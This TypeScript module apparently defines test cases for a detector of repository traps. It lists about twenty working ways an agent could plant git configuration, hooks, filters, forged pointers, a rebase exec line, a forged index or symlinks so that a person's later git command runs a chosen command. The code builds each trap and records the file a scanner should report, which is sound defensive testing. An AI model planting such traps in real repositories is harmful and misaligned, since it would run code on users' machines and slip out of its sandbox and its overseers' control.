import { chmodSync, cpSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { git } from './git.js';
import { indexWith } from './git-index-file.js';

/** Something an agent can leave in a repository, so that a person's git executes `command` or writes elsewhere. */
export interface GitAttack {
  name: string;
  /** Prepares the repository before the agent's attack. */
  prepare?: (root: string) => void;
  plant: (root: string, command: string) => void;
  /** The arguments of the git command that a person runs. */
  trigger: readonly string[];
  /** The path of the file that is reported, relative to the repository. */
  reported: string;
}

const STATUS = ['status', '--short'];

export const GIT_ATTACKS: readonly GitAttack[] = [
  {
    name: 'a commondir that leads to a configuration of the agent',
    plant: (root, command) => {
      evilFolder(root, join(root, 'evil'), command);
      writeFileSync(join(root, '.git/commondir'), '../evil\n');
    },
    trigger: STATUS,
    reported: '.git/commondir',
  },
  {
    name: 'a config.worktree, where the extension is on',
    prepare: (root) => git(root, 'config', 'extensions.worktreeConfig', 'true'),
    plant: (root, command) => writeFileSync(join(root, '.git/config.worktree'), monitor(command)),
    trigger: STATUS,
    reported: '.git/config.worktree',
  },
  {
    name: 'a setting in config',
    plant: (root, command) => git(root, 'config', 'core.fsmonitor', command),
    trigger: STATUS,
    reported: '.git/config',
  },
  {
    name: 'a setting in config that hides in odd syntax',
    plant: (root, command) =>
      writeFileSync(join(root, '.git/config'), `; [core]\r\n[CORE]bare=no#\nfsMonitor=\\\n${command} ; x\n`),
    trigger: STATUS,
    reported: '.git/config',
  },
  {
    name: 'a hook',
    plant: (root, command) => script(join(root, '.git/hooks/pre-commit'), command),
    trigger: ['commit', '--quiet', '--allow-empty', '--message', 'x'],
    reported: '.git/hooks/pre-commit',
  },
  {
    name: 'a hook in a folder of the workspace that the configuration names',
    prepare: (root) => git(root, 'config', 'core.hooksPath', '.githooks'),
    plant: (root, command) => script(join(root, '.githooks/pre-commit'), command),
    trigger: ['commit', '--quiet', '--allow-empty', '--message', 'x'],
    reported: '.githooks/pre-commit',
  },
  {
    name: 'a file of the workspace that the configuration includes',
    prepare: (root) => git(root, 'config', 'include.path', '../.gitconfig'),
    plant: (root, command) => writeFileSync(join(root, '.gitconfig'), monitor(command)),
    trigger: STATUS,
    reported: '.gitconfig',
  },
  {
    name: "a setting in a submodule's config",
    prepare: (root) => withSubmodule(root),
    plant: (root, command) => git(join(root, 'sub'), 'config', 'core.fsmonitor', command),
    trigger: STATUS,
    reported: '.git/modules/sub/config',
  },
  {
    name: 'a filter in a submodule',
    prepare: (root) => withSubmodule(root),
    plant: (root, command) => {
      git(join(root, 'sub'), 'config', 'filter.x.clean', `${command}; cat`);
      writeFileSync(join(root, 'sub/.gitattributes'), '* filter=x\n');
      writeFileSync(join(root, 'sub/file'), 'nestad\n');
    },
    trigger: STATUS,
    reported: '.git/modules/sub/config',
  },
  {
    name: "a submodule's commondir",
    prepare: (root) => withSubmodule(root),
    plant: (root, command) => {
      evilFolder(join(root, 'sub'), join(root, 'evil'), command, join(root, '.git/modules/sub'));
      writeFileSync(join(root, '.git/modules/sub/commondir'), '../../../evil\n');
    },
    trigger: STATUS,
    reported: '.git/modules/sub/commondir',
  },
  {
    name: "a repository in the place of a submodule's pointer",
    prepare: (root) => withSubmodule(root),
    plant: (root, command) => {
      rmSync(join(root, 'sub'), { recursive: true });
      nested(join(root, 'sub'), command);
    },
    trigger: STATUS,
    reported: 'sub/.git/config',
  },
  {
    name: 'a nested repository that the index names',
    plant: (root, command) => {
      nested(join(root, 'deep/below/all/that/is/looked/through'), command);
      git(root, 'add', '.');
    },
    trigger: STATUS,
    reported: 'deep/below/all/that/is/looked/through/.git/config',
  },
  {
    name: 'a nested repository that only the shared part of the index names',
    plant: (root, command) => {
      nested(join(root, 'deep/below/all/that/is/looked/through'), command);
      git(root, 'add', '.');
      git(root, '-c', 'core.fsmonitor=false', 'update-index', '--split-index');
    },
    trigger: STATUS,
    reported: 'deep/below/all/that/is/looked/through/.git/config',
  },
  {
    name: 'a commondir that ends in a space',
    plant: (root, command) => {
      evilFolder(root, join(root, '.git/ '), command);
      writeFileSync(join(root, '.git/commondir'), './ \n');
    },
    trigger: STATUS,
    reported: '.git/commondir',
  },
  {
    name: 'a pointer of two lines',
    prepare: (root) => withSubmodule(root),
    plant: (root, command) => {
      evilFolder(root, join(root, 'evil\ngitdir: x'), command, join(root, '.git/modules/sub'));
      writeFileSync(join(root, 'sub/.git'), `gitdir: ${root}/evil\ngitdir: x\n`);
    },
    trigger: STATUS,
    reported: 'sub/.git',
  },
  {
    name: 'a nested repository that only a person adds',
    plant: (root, command) => nested(join(root, 'nested'), command),
    trigger: ['-C', 'nested', ...STATUS],
    reported: 'nested/.git/config',
  },
  {
    name: 'a nested repository in a nested repository',
    plant: (root, command) => {
      nested(join(root, 'a'), 'false');
      git(join(root, 'a'), 'config', '--unset', 'core.fsmonitor');
      nested(join(root, 'a/b'), command);
      git(join(root, 'a'), 'add', 'b');
      git(root, 'add', 'a');
    },
    trigger: STATUS,
    reported: 'a/b/.git/config',
  },
  {
    name: 'a folder that looks like a bare repository',
    plant: (root, command) => evilFolder(root, join(root, 'docs'), command, join(root, '.git'), true),
    trigger: ['-C', 'docs', ...STATUS],
    reported: 'docs/config',
  },
  {
    name: 'the commondir of a worktree elsewhere',
    prepare: (root) => git(root, 'worktree', 'add', '--quiet', '-b', 'topic', `${root}-tree`),
    plant: (root, command) => {
      evilFolder(root, join(root, 'evil'), command);
      writeFileSync(join(root, '.git/worktrees/repository-tree/commondir'), join(root, 'evil'));
    },
    trigger: ['-C', '../repository-tree', ...STATUS],
    reported: '.git/worktrees/repository-tree/commondir',
  },
  {
    name: 'the commands of a rebase',
    plant: (root, command) => {
      const head = git(root, 'rev-parse', 'HEAD');
      const state = { onto: head, 'orig-head': head, 'head-name': 'refs/heads/main\n', end: '1', msgnum: '1' };
      const files = { ...state, done: '', interactive: '', 'git-rebase-todo': `exec ${command}\n` };
      mkdirSync(join(root, '.git/rebase-merge'));
      for (const [name, text] of Object.entries(files)) writeFileSync(join(root, '.git/rebase-merge', name), text);
    },
    trigger: ['rebase', '--continue'],
    reported: '.git/rebase-merge/git-rebase-todo',
  },
  {
    name: 'a remote that is a repository of the agent',
    plant: (root, command) => {
      git(root, 'init', '--quiet', '--bare', 'remote.git');
      script(join(root, 'remote.git/hooks/pre-receive'), command);
      mkdirSync(join(root, '.git/remotes'));
      writeFileSync(join(root, '.git/remotes/origin'), `URL: ${root}/remote.git\nPush: refs/heads/main\n`);
    },
    trigger: ['push', '--quiet'],
    reported: '.git/remotes/origin',
  },
  {
    name: 'an index that writes a hook',
    plant: (root, command) => {
      const path = join(root, 'planted.sh');
      script(path, command);
      const hash = git(root, 'hash-object', '-w', path).trim();
      writeFileSync(join(root, '.git/index'), indexWith('.git/hooks/post-checkout', hash, 0o100755));
    },
    trigger: ['checkout', '.'],
    reported: '.git/index',
  },
];

/** Links through which a person's git would write outside: `trigger` makes git write the link's target. */
export const LINK_ATTACKS: readonly (readonly [link: string, trigger: readonly string[]])[] = [
  ['.git/logs/HEAD', ['checkout', '--quiet', '-b', 'x;touch']],
  ['.git/COMMIT_EDITMSG', ['commit', '--quiet', '--allow-empty', '--message', 'x']],
  ['.git/FETCH_HEAD', ['fetch', '--quiet', '.']],
  ['.git/logs/refs/heads/main', ['commit', '--quiet', '--allow-empty', '--message', 'x']],
];

export function plantLink(root: string, link: string, target: string): void {
  rmSync(join(root, link), { force: true });
  symlinkSync(target, join(root, link));
}

function monitor(command: string): string {
  return `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "${command}"\n`;
}

function script(path: string, command: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, `#!/bin/sh\n${command}\n`);
  chmodSync(path, 0o755);
}

function evilFolder(root: string, folder: string, command: string, from = join(root, '.git'), bare = false): void {
  mkdirSync(folder);
  for (const part of ['objects', 'refs', 'HEAD']) cpSync(join(from, part), join(folder, part), { recursive: true });
  writeFileSync(join(folder, 'config'), monitor(command) + (bare ? '\tbare = false\n\tworktree = .\n' : ''));
}

function nested(path: string, command: string): void {
  git('/', 'init', '--quiet', path);
  writeFileSync(join(path, 'file'), 'nested\n');
  git(path, 'add', 'file');
  git(path, 'commit', '--quiet', '--message', 'Nested');
  git(path, 'config', 'core.fsmonitor', command);
}

function withSubmodule(root: string): void {
  const source = `${root}-sub`;
  nested(source, 'false');
  git(root, 'submodule', '--quiet', 'add', source, 'sub');
  git(root, 'commit', '--quiet', '--message', 'Submodule');
}
